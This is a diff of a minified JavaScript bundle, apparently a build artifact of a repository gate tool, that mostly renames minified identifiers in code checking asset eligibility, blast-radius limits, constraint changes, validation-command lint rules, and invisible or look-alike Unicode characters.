-"minItems"&&t.length>0;return e==="validation"||e==="constraints"&&!r}const o_=6,a_={"Gene epigenetic_marks[]":["object",
+["type","id"])};function o_(n,[e,...t],s){if(e==="type"||e==="id"||e==="asset_id")return!0;if(n!=="Gene")return!1;const r=s===
+"minItems"&&t.length>0;return e==="validation"||e==="constraints"&&!r}const a_=6,c_={"Gene epigenetic_marks[]":["object",
 "string"],"Gene _source":["object"],"Gene avoid[]":["string"],"Gene anti_patterns[]":["object","string"],"Capsule conten\
 t":["string"],"Capsule diff":["string"],"Capsule gene":["null"],"EvolutionEvent mutation_id":["null"],"EvolutionEvent ex\
-ecution_trace":["object"],"EvolutionEvent applied_lessons[]":["object","string"]};function c_({type:n,value:e},{kind:t,pointer:s}){
-const[r="",i=0,...o]=s,c=e[r]??null,l=a_[`${n} ${r}${Array.isArray(c)?"[]":""}`];return t==="missing"||!l||typeof i!="nu\
-mber"||o.length>0?!1:[c].flat().every(B=>l.includes(B===null?"null":typeof B))}function u_(n){return(zd(n)??Number.NaN)<
-Number(Ll.split(".")[1])}function zd({value:{schema_version:n}}){const e=typeof n=="string"?/^1\.(\d+)\.\d+$/.exec(n)?.[1]:
-void 0;return e===void 0?void 0:Number(e)}function jN({changes:n,present:e,unread:t},s,r,i=new Map){const o=n.filter(({asset:d})=>d.
+ecution_trace":["object"],"EvolutionEvent applied_lessons[]":["object","string"]};function u_({type:n,value:e},{kind:t,pointer:s}){
+const[r="",i=0,...o]=s,c=e[r]??null,l=c_[`${n} ${r}${Array.isArray(c)?"[]":""}`];return t==="missing"||!l||typeof i!="nu\
+mber"||o.length>0?!1:[c].flat().every(B=>l.includes(B===null?"null":typeof B))}function l_(n){return(Ud(n)??Number.NaN)<
+Number(jl.split(".")[1])}function Ud({value:{schema_version:n}}){const e=typeof n=="string"?/^1\.(\d+)\.\d+$/.exec(n)?.[1]:
+void 0;return e===void 0?void 0:Number(e)}function zN({changes:n,present:e,unread:t},s,r,i=new Map){const o=n.filter(({asset:d})=>d.
 type==="Capsule");if(o.length===0)return[];const c=streakCounter(eventsIn({changes:n,present:e,unread:t}),!0),l=t.at(-1),
-B=r&&l_(o,r);return o.map(({kind:d,asset:h,before:g})=>{if(d==="removed")return{change:d,asset:h,eligible:null,eligibility:null,
-reasons:[]};const C=d==="added"?B:g&&sizeOf(g.value.blast_radius),y=B_(h,()=>{const v=c(h),O=l===void 0||v.ended?v:{...v,
-unread:l},D=i.get(h);return[...Ud(h,O,s,C),...D?[D]:[]]}),_=eligibilityOf(y);return{change:d,asset:h,eligible:_==="eligi\
-ble",eligibility:_,reasons:y}})}function l_(n,e){const t=n.filter(({kind:i})=>i==="added").map(({asset:i})=>sizeOf(i.value.
+B=r&&d_(o,r);return o.map(({kind:d,asset:h,before:g})=>{if(d==="removed")return{change:d,asset:h,eligible:null,eligibility:null,
+reasons:[]};const C=d==="added"?B:g&&sizeOf(g.value.blast_radius),y=f_(h,()=>{const v=c(h),O=l===void 0||v.ended?v:{...v,
+unread:l},D=i.get(h);return[...Jd(h,O,s,C),...D?[D]:[]]}),_=eligibilityOf(y);return{change:d,asset:h,eligible:_==="eligi\
+ble",eligibility:_,reasons:y}})}function d_(n,e){const t=n.filter(({kind:i})=>i==="added").map(({asset:i})=>sizeOf(i.value.
 blast_radius)??{files:0,lines:0}),s=i=>t.reduce((o,c)=>o+c[i],0);return s("files")>=e.files&&s("lines")>=e.lines?void 0:
-e}function d_(n){const{otherAsset:e}=ruleOf(n.rule);return n.severity==="error"||isMissingEvidence(n)||e===!0}function B_(n,e){
-try{return[...e(),...promotionSchemaFindings(n),...identityFindings(n,"hand")].filter(d_)}catch(t){return[assetNotJudged(
-n,t)]}}function Ud(n,e,t,s={files:0,lines:0}){const{status:r,score:i}=Zd(n.value.outcome),o=Zd(n.value.blast_radius),c={
-capsule:n.id},l=(...d)=>fa(n,d),B=[];if(r!=="success"){const d=`\`outcome.status\` is ${Ca(r)}, but it must be "success"`;
-B.push((0,ct.gk)("capsule-not-eligible",{...c,why:d},l("outcome","status")))}if(!Wd(i,t.min_score,1)){const d=`a number \
-from ${t.min_score} to 1`,h=`\`outcome.score\` is ${Ca(i)}, but it must be ${d}`;B.push((0,ct.gk)("capsule-not-eligible",
+e}function B_(n){const{otherAsset:e}=ruleOf(n.rule);return n.severity==="error"||isMissingEvidence(n)||e===!0}function f_(n,e){
+try{return[...e(),...promotionSchemaFindings(n),...identityFindings(n,"hand")].filter(B_)}catch(t){return[assetNotJudged(
+n,t)]}}function Jd(n,e,t,s={files:0,lines:0}){const{status:r,score:i}=Wd(n.value.outcome),o=Wd(n.value.blast_radius),c={
+capsule:n.id},l=(...d)=>pa(n,d),B=[];if(r!=="success"){const d=`\`outcome.status\` is ${wa(r)}, but it must be "success"`;
+B.push((0,ct.gk)("capsule-not-eligible",{...c,why:d},l("outcome","status")))}if(!Kd(i,t.min_score,1)){const d=`a number \
+from ${t.min_score} to 1`,h=`\`outcome.score\` is ${wa(i)}, but it must be ${d}`;B.push((0,ct.gk)("capsule-not-eligible",
 {...c,why:h},l("outcome","score")))}for(const d of["files","lines"]){const h=t[`max_${d}`],g=Math.max(s[d],e.radius?.[d]??
-0);if(Wd(o[d],1,h)&&g<=h)continue;const C=Ca(o[d]),y=g>h?`${g} (claimed: ${C})`:C,_=`\`blast_radius.${d}\` is ${y}, but \
-it must be ${Jd(h)}`;B.push((0,ct.gk)("capsule-not-eligible",{...c,why:_},l("blast_radius",d)))}if(e.unmeasured!==void 0){
-const d=`\`blast_radius.files\` is not a size in the event \`${e.unmeasured}\`, but it must be ${Jd(t.max_files)}`;B.push(
-(0,ct.gk)("capsule-not-eligible",{...c,why:d},l("blast_radius")))}return e.count<t.min_success_streak&&B.push(...f_(n,e,
-t.min_success_streak)),B}function Jd(n){return`a number from 1 to ${n}`}function f_(n,{count:e,unread:t,failed:s,uncounted:r=[]},i){
-const o=fa(n),c={capsule:n.id};if(s!==void 0){const d=`the event \`${s}\`, the newest one that names it, is not a success`;
+0);if(Kd(o[d],1,h)&&g<=h)continue;const C=wa(o[d]),y=g>h?`${g} (claimed: ${C})`:C,_=`\`blast_radius.${d}\` is ${y}, but \
+it must be ${Zd(h)}`;B.push((0,ct.gk)("capsule-not-eligible",{...c,why:_},l("blast_radius",d)))}if(e.unmeasured!==void 0){
+const d=`\`blast_radius.files\` is not a size in the event \`${e.unmeasured}\`, but it must be ${Zd(t.max_files)}`;B.push(
+(0,ct.gk)("capsule-not-eligible",{...c,why:d},l("blast_radius")))}return e.count<t.min_success_streak&&B.push(...h_(n,e,
+t.min_success_streak)),B}function Zd(n){return`a number from 1 to ${n}`}function h_(n,{count:e,unread:t,failed:s,uncounted:r=[]},i){
+const o=pa(n),c={capsule:n.id};if(s!==void 0){const d=`the event \`${s}\`, the newest one that names it, is not a success`;
 return[(0,ct.gk)("capsule-not-eligible",{...c,why:d},o)]}if(t!==void 0){const d=`whether the Capsule \`${n.id}\` has enou\
-gh consecutive successes`;return[Uy(d,t,{...o,severity:"error"})]}const l=r.slice(0,h_).map(({event:d,why:h})=>`the even\
-t \`${d}\` does not count: ${h}`),B={...c,streak:e,least:i,uncounted:l};return[(0,ct.gk)("capsule-streak",B,o)]}const h_=5;
-function Zd(n){return mn(n)?n:{}}function Wd(n,e,t){return typeof n=="number"&&n>=e&&n<=t}function Ca(n){return n===void 0?
-"missing":Ld(n)}const MN={level:"none",description:"Nothing was run."},GN={files:0,lines:0,exempt_files:0,exempt_lines:0};
-function xr(n){const e=i=>({constraints:m_,problems:[{...i,pointer:["constraints"]}]});if(n===void 0)return e({kind:"mis\
-sing"});if(!mn(n))return e({kind:"malformed",detail:"an object"});const t=[],s=g_(n.max_files,t);return{constraints:{maxFiles:s??
-la,isDefaultLimit:s===void 0,forbiddenPaths:C_(n.forbidden_paths,t)},problems:t}}function p_(n,e){if(n===void 0)return e;
+gh consecutive successes`;return[Jy(d,t,{...o,severity:"error"})]}const l=r.slice(0,p_).map(({event:d,why:h})=>`the even\
+t \`${d}\` does not count: ${h}`),B={...c,streak:e,least:i,uncounted:l};return[(0,ct.gk)("capsule-streak",B,o)]}const p_=5;
+function Wd(n){return mn(n)?n:{}}function Kd(n,e,t){return typeof n=="number"&&n>=e&&n<=t}function wa(n){return n===void 0?
+"missing":jd(n)}const UN={level:"none",description:"Nothing was run."},JN={files:0,lines:0,exempt_files:0,exempt_lines:0};
+function xr(n){const e=i=>({constraints:g_,problems:[{...i,pointer:["constraints"]}]});if(n===void 0)return e({kind:"mis\
+sing"});if(!mn(n))return e({kind:"malformed",detail:"an object"});const t=[],s=C_(n.max_files,t);return{constraints:{maxFiles:s??
+Ba,isDefaultLimit:s===void 0,forbiddenPaths:y_(n.forbidden_paths,t)},problems:t}}function m_(n,e){if(n===void 0)return e;
 const{maxFiles:t,isDefaultLimit:s}=n.maxFiles<e.maxFiles?n:e;return{maxFiles:t,isDefaultLimit:s,forbiddenPaths:[...new Set(
-[...n.forbiddenPaths,...e.forbiddenPaths])]}}const m_={maxFiles:la,isDefaultLimit:!0,forbiddenPaths:[]};function g_(n,e){
+[...n.forbiddenPaths,...e.forbiddenPaths])]}}const g_={maxFiles:Ba,isDefaultLimit:!0,forbiddenPaths:[]};function C_(n,e){
 const t=["constraints","max_files"];if(n===void 0)e.push({kind:"missing",pointer:t});else{if(Number.isSafeInteger(n)&&Number(
-n)>0)return Number(n);e.push({kind:"malformed",pointer:t,detail:"an integer greater than 0"})}}function C_(n,e){const t=[
+n)>0)return Number(n);e.push({kind:"malformed",pointer:t,detail:"an integer greater than 0"})}}function y_(n,e){const t=[
 "constraints","forbidden_paths"];if(n===void 0)return e.push({kind:"missing",pointer:t}),[];if(!Array.isArray(n))return e.
 push({kind:"malformed",pointer:t,detail:"a list of paths"}),[];const s=new Set;for(const[r,i]of n.entries()){const o=typeof i==
 "string"?ft(i):void 0;if(typeof i!="string"||!o){e.push({kind:"malformed",pointer:[...t,r],detail:"a path below the root\
- of the repository"});continue}wy(i)&&e.push({kind:"pattern",pointer:[...t,r],detail:i}),s.add(o)}return[...s]}function HN(n,e){
+ of the repository"});continue}by(i)&&e.push({kind:"pattern",pointer:[...t,r],detail:i}),s.add(o)}return[...s]}function ZN(n,e){
 const{asset:t,change:s,binds:r}=n,{constraints:i}=xr(t.value.constraints),o=s?.before&&xr(s.before.value.constraints).constraints,
-c=p_(o,i),{maxFiles:l,isDefaultLimit:B}=c,d=y_(e.policy),h=r&&isChange(e)?e.radius:NOTHING_TOUCHED,g=cappedSize(h,e.policy.
+c=m_(o,i),{maxFiles:l,isDefaultLimit:B}=c,d=w_(e.policy),h=r&&isChange(e)?e.radius:NOTHING_TOUCHED,g=cappedSize(h,e.policy.
 blast_radius.counting),C=gradeFiles(h.files,l,g,d),y=C==="hard_cap_breach"?g:h,_=gradeWords(C,y,l,d);return{base:o,head:i,
-constraints:c,blastRadius:{...h,max_files:l,...B&&{default_limit:!0},severity:C,message:_}}}function y_({blast_radius:n}){
-const{hard_cap_files:e,hard_cap_lines:t}=n;return{files:e,lines:t}}function zN({kind:n,asset:e,before:t}){return t===void 0||
-e.cut||n!=="added"&&n!=="modified"?[]:[...w_(t,e),...b_(t,e)]}function w_(n,e){const[t,s]=[Kd(n),Kd(e)],r="validation";return[
+constraints:c,blastRadius:{...h,max_files:l,...B&&{default_limit:!0},severity:C,message:_}}}function w_({blast_radius:n}){
+const{hard_cap_files:e,hard_cap_lines:t}=n;return{files:e,lines:t}}function WN({kind:n,asset:e,before:t}){return t===void 0||
+e.cut||n!=="added"&&n!=="modified"?[]:[...b_(t,e),...__(t,e)]}function b_(n,e){const[t,s]=[qd(n),qd(e)],r="validation";return[
 ...[...t].filter(i=>!s.has(i)).map(i=>({kind:"command_removed",field:r,base:i,head:null})),...[...s].filter(i=>!t.has(i)).
-map(i=>({kind:"command_added",field:r,base:null,head:i}))]}function Kd(n){const e=validationCommands(n),t=e.kind==="list"?
-e.entries.map(({value:s})=>s):[];return new Set(t.filter(s=>typeof s=="string"))}function b_(n,e){const{constraints:t}=xr(
+map(i=>({kind:"command_added",field:r,base:null,head:i}))]}function qd(n){const e=validationCommands(n),t=e.kind==="list"?
+e.entries.map(({value:s})=>s):[];return new Set(t.filter(s=>typeof s=="string"))}function __(n,e){const{constraints:t}=xr(
 n.value.constraints),{constraints:s}=xr(e.value.constraints),r=[];s.maxFiles!==t.maxFiles&&r.push({kind:s.maxFiles>t.maxFiles?
 "constraint_loosened":"constraint_tightened",field:"constraints.max_files",base:String(t.maxFiles),head:String(s.maxFiles)});
-const i="constraints.forbidden_paths";for(const o of qd(t.forbiddenPaths,s.forbiddenPaths))r.push({kind:"constraint_loos\
-ened",field:i,base:o,head:null});for(const o of qd(s.forbiddenPaths,t.forbiddenPaths))r.push({kind:"constraint_tightened",
-field:i,base:null,head:o});return r}function qd(n,e){return n.filter(t=>!e.some(s=>isWithin(t,s)))}var Fi=at(698);const __=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;
-function E_(n){return!__.test(n)}function v_(n){const e=new Map;for(const i of n){if(e.has(i.path))throw wa(i.path,"occu\
-rs twice");if(!E_(i.path))throw wa(i.path,"cannot be checked out");e.set(i.path,i)}for(const{path:i,tracked:o}of[...e.values()])
-for(let c=ba(i);c!=="";c=ba(c)){const l=e.get(c)?.kind;if(l==="directory")break;if(l!==void 0)throw wa(i,`is below the ${l}\
- ${c}`);e.set(c,{path:c,kind:"directory",tracked:o})}const t=[...e.values()].sort(Yd);let s;e.set("",{path:"",kind:"dire\
-ctory",tracked:!0});const r=t.filter(({kind:i,tracked:o})=>o&&i!=="directory");return{stat:i=>e.get(i),list:i=>(s??=Ai(t,
-({path:o})=>ba(o)),s.get(i)??[]),files:()=>r}}function Yd(n,e){return n.path<e.path?-1:n.path>e.path?1:0}function ya(n){
-const e=[];for(let t=n.indexOf("/");t>=0;t=n.indexOf("/",t+1))e.push(n.slice(0,t));return e}function k_(n,e){return new Fi.
+const i="constraints.forbidden_paths";for(const o of Yd(t.forbiddenPaths,s.forbiddenPaths))r.push({kind:"constraint_loos\
+ened",field:i,base:o,head:null});for(const o of Yd(s.forbiddenPaths,t.forbiddenPaths))r.push({kind:"constraint_tightened",
+field:i,base:null,head:o});return r}function Yd(n,e){return n.filter(t=>!e.some(s=>isWithin(t,s)))}var Pi=at(698);const E_=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;
+function v_(n){return!E_.test(n)}function k_(n){const e=new Map;for(const i of n){if(e.has(i.path))throw _a(i.path,"occu\
+rs twice");if(!v_(i.path))throw _a(i.path,"cannot be checked out");e.set(i.path,i)}for(const{path:i,tracked:o}of[...e.values()])
+for(let c=Ea(i);c!=="";c=Ea(c)){const l=e.get(c)?.kind;if(l==="directory")break;if(l!==void 0)throw _a(i,`is below the ${l}\
+ ${c}`);e.set(c,{path:c,kind:"directory",tracked:o})}const t=[...e.values()].sort(Vd);let s;e.set("",{path:"",kind:"dire\
+ctory",tracked:!0});const r=t.filter(({kind:i,tracked:o})=>o&&i!=="directory");return{stat:i=>e.get(i),list:i=>(s??=Si(t,
+({path:o})=>Ea(o)),s.get(i)??[]),files:()=>r}}function Vd(n,e){return n.path<e.path?-1:n.path>e.path?1:0}function ba(n){
+const e=[];for(let t=n.indexOf("/");t>=0;t=n.indexOf("/",t+1))e.push(n.slice(0,t));return e}function D_(n,e){return new Pi.
 ue("file_unreadable",`${e} is not a regular file in ${n}`,"Check the spelling of the path. It must be a file of its own,\
- not a directory or a symlink.")}function UN(n,e,t,s){return new GateError("file_unreadable",`${e} in ${n} has ${t} byte\
-s; the limit is ${s}`,"Split the file, or move large data out of it.")}function wa(n,e){return new Fi.ue("file_unreadabl\
-e",`The tree contains the path ${JSON.stringify(n)}, which ${e}`,"Recreate the commit with an unmodified git.")}function ba(n){
-return n.slice(0,Math.max(n.lastIndexOf("/"),0))}function Vd(n,{policy:e,tree:t,base:s}){const[r]=e.stores.map(({path:c,
+ not a directory or a symlink.")}function KN(n,e,t,s){return new GateError("file_unreadable",`${e} in ${n} has ${t} byte\
+s; the limit is ${s}`,"Split the file, or move large data out of it.")}function _a(n,e){return new Pi.ue("file_unreadabl\
+e",`The tree contains the path ${JSON.stringify(n)}, which ${e}`,"Recreate the commit with an unmodified git.")}function Ea(n){
+return n.slice(0,Math.max(n.lastIndexOf("/"),0))}function Qd(n,{policy:e,tree:t,base:s}){const[r]=e.stores.map(({path:c,
 root:l=".",checkout_as:B})=>({path:ft(c)??"",root:ft(l)??"",...B!==void 0&&{checkoutAs:B}})).filter(({path:c})=>rn(n,c)).
 sort((c,l)=>l.path.length-c.path.length),i=Le.posix.dirname(n).replace(/^\.$/,"");if(r!==void 0)return{...r,path:i,named:!0};
-const o=[s,t].find(c=>c?.stat(i)?.kind==="directory");return{path:i,root:(o&&x_(o,i)[0])??""}}function JN(n,e){const t=new Map(
-[...n].map(r=>D_(Vd(r,e)))),[s={root:""}]=t.values();return t.size<2?s:{root:""}}function D_({root:n,checkoutAs:e}){return[
-JSON.stringify([n,e]),{root:n,checkoutAs:e}]}function ZN({root:n,checkoutAs:e}){return e===void 0?n||".":".."}const Qd=Fn(
-()=>new Map);function x_(n,e){const t=Qd(n).get(e)??O_(n,e);return Qd(n).set(e,t),t}function O_(n,e){return[...new Set([
-e,...ya(e).reverse(),""])].filter(s=>n.stat(Le.posix.join(s,"package.json"))!==void 0)}const Xd={"unquoted-glob":"warnin\
+const o=[s,t].find(c=>c?.stat(i)?.kind==="directory");return{path:i,root:(o&&O_(o,i)[0])??""}}function qN(n,e){const t=new Map(
+[...n].map(r=>x_(Qd(r,e)))),[s={root:""}]=t.values();return t.size<2?s:{root:""}}function x_({root:n,checkoutAs:e}){return[
+JSON.stringify([n,e]),{root:n,checkoutAs:e}]}function YN({root:n,checkoutAs:e}){return e===void 0?n||".":".."}const Xd=Fn(
+()=>new Map);function O_(n,e){const t=Xd(n).get(e)??A_(n,e);return Xd(n).set(e,t),t}function A_(n,e){return[...new Set([
+e,...ba(e).reverse(),""])].filter(s=>n.stat(Le.posix.join(s,"package.json"))!==void 0)}const eB={"unquoted-glob":"warnin\
 g","environment-assignment":"warning","tool-writes":"warning","skips-tests":"warning",weakens:"warning","tool-runs-file":"\
 warning","only-prints":"warning","checks-syntax-only":"warning","absolute-path":"warning","tool-unknown":"warning","targ\
 et-not-judged":"notice","dependency-not-compared":"warning","not-installed":"notice","build-files-unread":"notice","targ\
 et-changed":"notice","script-unreadable":"warning","target-writes":"warning","npm-script-missing":"warning","npm-script-\
-text":"warning","workspaces-changed":"warning"};function Xe(n,e,t,s=A_(n)){return{rule:n,args:t,span:e,severity:s}}function A_(n){
-return n in Xd?Xd[n]:"error"}function is(n,e){return n.rule===e}function S_(n,e){const{tree:t,base:s,changed:r=[],isOutput:i}=e,
-o=`${n}/`;return{...e,...t&&{tree:Si(t,n)},...s&&{base:Si(s,n)},changed:new Set([...r].map(c=>o+c)),...i&&{isOutput:c=>c.
-startsWith(o)&&i(c.slice(o.length))}}}function T_(n,e){const t=e.targets.map(({path:i,...o})=>i===void 0?o:{...o,path:i.
+text":"warning","workspaces-changed":"warning"};function Xe(n,e,t,s=S_(n)){return{rule:n,args:t,span:e,severity:s}}function S_(n){
+return n in eB?eB[n]:"error"}function is(n,e){return n.rule===e}function T_(n,e){const{tree:t,base:s,changed:r=[],isOutput:i}=e,
+o=`${n}/`;return{...e,...t&&{tree:Ti(t,n)},...s&&{base:Ti(s,n)},changed:new Set([...r].map(c=>o+c)),...i&&{isOutput:c=>c.
+startsWith(o)&&i(c.slice(o.length))}}}function I_(n,e){const t=e.targets.map(({path:i,...o})=>i===void 0?o:{...o,path:i.
 slice(n.length+1)}),[s]=e.words;if(e.invocation!==void 0||s===void 0)return{...e,targets:t};const r=Xe("target-outside",
-s.span,{path:"..",reason:"above"});return{...e,targets:t,problems:[...e.problems,r]}}const I_=[["?=","attached"],["=","v\
-alue"],["?","optional"],["*","many"],["+","rest"]];function Pi(n,e=t=>t){const t=new Map;for(const[s,r]of Object.entries(
-n))for(const i of r.split(/\s+/).filter(Boolean)){const[,o=i,c]=/^([^=]+=)(.+)$/s.exec(i)??[],[l,B]=I_.find(([g])=>o.endsWith(
+s.span,{path:"..",reason:"above"});return{...e,targets:t,problems:[...e.problems,r]}}const $_=[["?=","attached"],["=","v\
+alue"],["?","optional"],["*","many"],["+","rest"]];function Li(n,e=t=>t){const t=new Map;for(const[s,r]of Object.entries(
+n))for(const i of r.split(/\s+/).filter(Boolean)){const[,o=i,c]=/^([^=]+=)(.+)$/s.exec(i)??[],[l,B]=$_.find(([g])=>o.endsWith(
 g))??["","none"],[d="",...h]=o.slice(0,o.length-l.length).split(",");for(const g of[d,...h]){const C=e(g);if(t.has(C))throw new Error(
-`flag ${g} stands in two groups`);t.set(C,{name:d,kind:s,arity:B,...c&&{choices:c.split("|")}})}}return t}function eB(n){
-return new Map([...Pi(n)].map(([e,{kind:t}])=>[e,t]))}function Ys(n){return n.length===1?n:n.replace(/[-_]/g,"").toLowerCase()}
-function Or({known:n,refusal:e},t){return n(t)!==void 0||e(t)!==void 0}function tB({data:n},e){const t=n.completes&&e.startsWith(
+`flag ${g} stands in two groups`);t.set(C,{name:d,kind:s,arity:B,...c&&{choices:c.split("|")}})}}return t}function tB(n){
+return new Map([...Li(n)].map(([e,{kind:t}])=>[e,t]))}function Ys(n){return n.length===1?n:n.replace(/[-_]/g,"").toLowerCase()}
+function Or({known:n,refusal:e},t){return n(t)!==void 0||e(t)!==void 0}function nB({data:n},e){const t=n.completes&&e.startsWith(
 "--");return n.directory_flags.some(s=>s===e||t&&s.startsWith(e))}function kn(n,e=[]){const{flags:t,starts:s,behind:r}=n,
-i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...Li([t,...e,rB]),stops:i,readsBehind:n.reads_behind,handsOn:n.
-hands_on,data:n,refused:Li([n.refused]),behind:r&&Li([r.flags,rB]),subcommands:new Map}}function $_(n,e,t={}){const{completes:s}=e,
+i=s!==void 0&&s!=="command-texts"&&s!=="npm-scripts";return{...ji([t,...e,iB]),stops:i,readsBehind:n.reads_behind,handsOn:n.
+hands_on,data:n,refused:ji([n.refused]),behind:r&&ji([r.flags,iB]),subcommands:new Map}}function R_(n,e,t={}){const{completes:s}=e,
 r=(l,...B)=>({...kn(l,[...B,t]),completes:s,subcommands:new Map}),{subcommands:i,...o}=e,c=r(o);for(const[l,B]of Object.
 entries(i)){const d=l.split(" "),h=(d.pop()??"").split(","),g=d.reduce((y,_)=>{const k=y.subcommands.get(_)??r({alone:"o\
-nly-prints"},e.flags);return nB(y,_,k)},c),C=r(B,e.flags);for(const y of h)nB(g,y,C)}return{program:n,use:c,data:e}}function nB(n,e,t){
-return n.subcommands.set(e,t),n.stops=!0,t}function sB(n,e=[]){const t=i=>i.startsWith("-")?i:`${i.length===1?"-":"--"}${i}`,
-s=Li([n,{text:e.join(" ")}],t),r=new Map([...s.flags].map(([i,o])=>[i,{...o,name:t(o.name)}]));return{...s,flags:r,strict:!0}}
-const rB={"only-prints":"help h version v V"};function Li(n,e=Ys){const t=new Map,s=[];for(const r of n)for(const[i,o]of Pi(
-r??{},e))i.endsWith("~")?s.push([i.slice(0,-1),o]):t.has(i)||t.set(i,o);return{flags:t,prefixes:s}}function _a({flags:n,
-prefixes:e},t){return n.get(t)??e.find(([s])=>t.startsWith(s))?.[1]}const R_={known:()=>{},refusal:()=>{},unknown:()=>kn(
-{unknown:!0}),module:kn({unknown:!0})},Ar={tools:R_,allowed:new Map,known:new Map,offered:()=>{}};var iB=at(756);function N_(n){
-return n.split(/\s+/).flatMap(([e="",...t])=>t.map(s=>[s,e]))}const F_=new Map(N_(`a\u0430\u0251\u03B1 b\u042C\u0185 c\u0441\u03F2\u217D d\u0501\u0257 e\u0435\u04BD f\u0192 g\u0261\u0581 h\u04BB\u0570 i\u0456\u0131\u03B9\
+nly-prints"},e.flags);return sB(y,_,k)},c),C=r(B,e.flags);for(const y of h)sB(g,y,C)}return{program:n,use:c,data:e}}function sB(n,e,t){
+return n.subcommands.set(e,t),n.stops=!0,t}function rB(n,e=[]){const t=i=>i.startsWith("-")?i:`${i.length===1?"-":"--"}${i}`,
+s=ji([n,{text:e.join(" ")}],t),r=new Map([...s.flags].map(([i,o])=>[i,{...o,name:t(o.name)}]));return{...s,flags:r,strict:!0}}
+const iB={"only-prints":"help h version v V"};function ji(n,e=Ys){const t=new Map,s=[];for(const r of n)for(const[i,o]of Li(
+r??{},e))i.endsWith("~")?s.push([i.slice(0,-1),o]):t.has(i)||t.set(i,o);return{flags:t,prefixes:s}}function va({flags:n,
+prefixes:e},t){return n.get(t)??e.find(([s])=>t.startsWith(s))?.[1]}const N_={known:()=>{},refusal:()=>{},unknown:()=>kn(
+{unknown:!0}),module:kn({unknown:!0})},Ar={tools:N_,allowed:new Map,known:new Map,offered:()=>{}};var oB=at(756);function F_(n){
+return n.split(/\s+/).flatMap(([e="",...t])=>t.map(s=>[s,e]))}const P_=new Map(F_(`a\u0430\u0251\u03B1 b\u042C\u0185 c\u0441\u03F2\u217D d\u0501\u0257 e\u0435\u04BD f\u0192 g\u0261\u0581 h\u04BB\u0570 i\u0456\u0131\u03B9\
 \u0269 j\u0458\u03F3 k\u03BA\u043A l\u04CF\u01C0 m\u043C n\u043F\u0578\u03B7 o\u043E\u03BF\u0585 p\u0440\u03C1 q\u051B\u0566 r\u0433 s\u0455 t\u0442\u03C4
    u\u057D\u03C5 v\u03BD\u0475 w\u051D\u03C9 x\u0445\u03C7 y\u0443\u03B3 z\u1D22 A\u0410\u0391 B\u0412\u0392 C\u0421\u03F9 E\u0415\u0395 H\u041D\u0397 I\u0406\u0399\u04C0 J\u0408 K\u041A\u039A M\u041C\u039C N\u039D O\u041E\u039F P\u0420\u03A1 S\u0405 T\u0422\u03A4 X\u0425\u03A7 Y\u04AE\u03A5
    Z\u0396\u13C3 A\u13AA B\u13F4 C\u13DF D\u13A0 E\u13AC G\u050C\u13C0 H\u13BB J\u13AB K\u13E6 L\u13DE M\u13B7 P\u13E2 R\u13A1 S\u13DA T\u13A2 V\u13D9\u0474 W\u13B3\u051C Y\u13A9 Q\u051A`));
-function oB(n){return[...n].map(e=>F_.get(e)??e).join("")}const P_=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;
-function aB(n){if(n>=32&&n<127||n===9)return"visible";if(n===0)return"nul-character";if(n===10||n===13)return"line-break";
-if(n<160||n>=55296&&n<=57343)return"control-character";const e=String.fromCodePoint(n);return P_.test(e)?"invisible-char\
-acter":"visible"}function Ea(n){return`U+${n.toString(16).toUpperCase().padStart(4,"0")}`}const cB=120;function dn(n){const e=n.
-length>cB?`${n.slice(0,cB)}\u2026`:n;let t="";for(const s of e){const r=s.codePointAt(0)??0,i=r!==9&&aB(r)==="visible";t+=
-i?s:`<${Ea(r)}>`}return t}function Es(n,e,t,s){let r=e;for(const i of n)L_(i,r,t,s),r+=i.length}function L_(n,e,t,s){const r=n.
-codePointAt(0)??0,i={start:e,end:e+n.length},o=Ea(r),c=aB(r);if(c==="line-break"?s.add(c,i,{character:o,quoted:t}):c!=="\
+function aB(n){return[...n].map(e=>P_.get(e)??e).join("")}const L_=/^[\p{Cf}\p{Co}\p{Cn}\p{Z}\p{Default_Ignorable_Code_Point}]$/u;
+function cB(n){if(n>=32&&n<127||n===9)return"visible";if(n===0)return"nul-character";if(n===10||n===13)return"line-break";
+if(n<160||n>=55296&&n<=57343)return"control-character";const e=String.fromCodePoint(n);return L_.test(e)?"invisible-char\
+acter":"visible"}function ka(n){return`U+${n.toString(16).toUpperCase().padStart(4,"0")}`}const uB=120;function dn(n){const e=n.
+length>uB?`${n.slice(0,uB)}\u2026`:n;let t="";for(const s of e){const r=s.codePointAt(0)??0,i=r!==9&&cB(r)==="visible";t+=
+i?s:`<${ka(r)}>`}return t}function Es(n,e,t,s){let r=e;for(const i of n)j_(i,r,t,s),r+=i.length}function j_(n,e,t,s){const r=n.
+codePointAt(0)??0,i={start:e,end:e+n.length},o=ka(r),c=cB(r);if(c==="line-break"?s.add(c,i,{character:o,quoted:t}):c!=="\
 visible"&&s.add(c,i,{character:o}),c!=="visible"||r<=126)return;const l=n.normalize("NFKC");l!==n.normalize("NFC")||/[\0-\x7f]/.
 test(l)?s.add("look-alike-letters",i,{word:n,looks_like:l,characters:[o]}):t||s.add("non-ascii-unquoted",i,{character:o,
-shown:n})}const j_=/\p{L}+/gu;function M_(n,e,t,s){if(/^[\x00-\x7f]*$/.test(n)||!t&&/\s/.test(n))return;const r=t?G_(n):
-H_(n);if(r===void 0)return;const i=[...new Set(n)].filter(o=>o>"\x7F");s.add("look-alike-letters",{start:e.start,end:e.end},
-{word:dn(n),looks_like:dn(r),characters:i.slice(0,10).map(o=>Ea(o.codePointAt(0)??0))})}function G_(n){const e=n.normalize(
-"NFKD").replace(/\p{M}/gu,""),t=oB(e);return/^[\x20-\x7e]+$/.test(t)?t:void 0}function H_(n){let e=!1;const t=n.replace(
-j_,s=>{const r=oB(s);return r===s||!/[A-Za-z]/.test(s)?s:(e=!0,r)});return e?t:void 0}const z_=100,U_=1e3;function J_(n,e){
+shown:n})}const M_=/\p{L}+/gu;function G_(n,e,t,s){if(/^[\x00-\x7f]*$/.test(n)||!t&&/\s/.test(n))return;const r=t?H_(n):
+z_(n);if(r===void 0)return;const i=[...new Set(n)].filter(o=>o>"\x7F");s.add("look-alike-letters",{start:e.start,end:e.end},
+{word:dn(n),looks_like:dn(r),characters:i.slice(0,10).map(o=>ka(o.codePointAt(0)??0))})}function H_(n){const e=n.normalize(
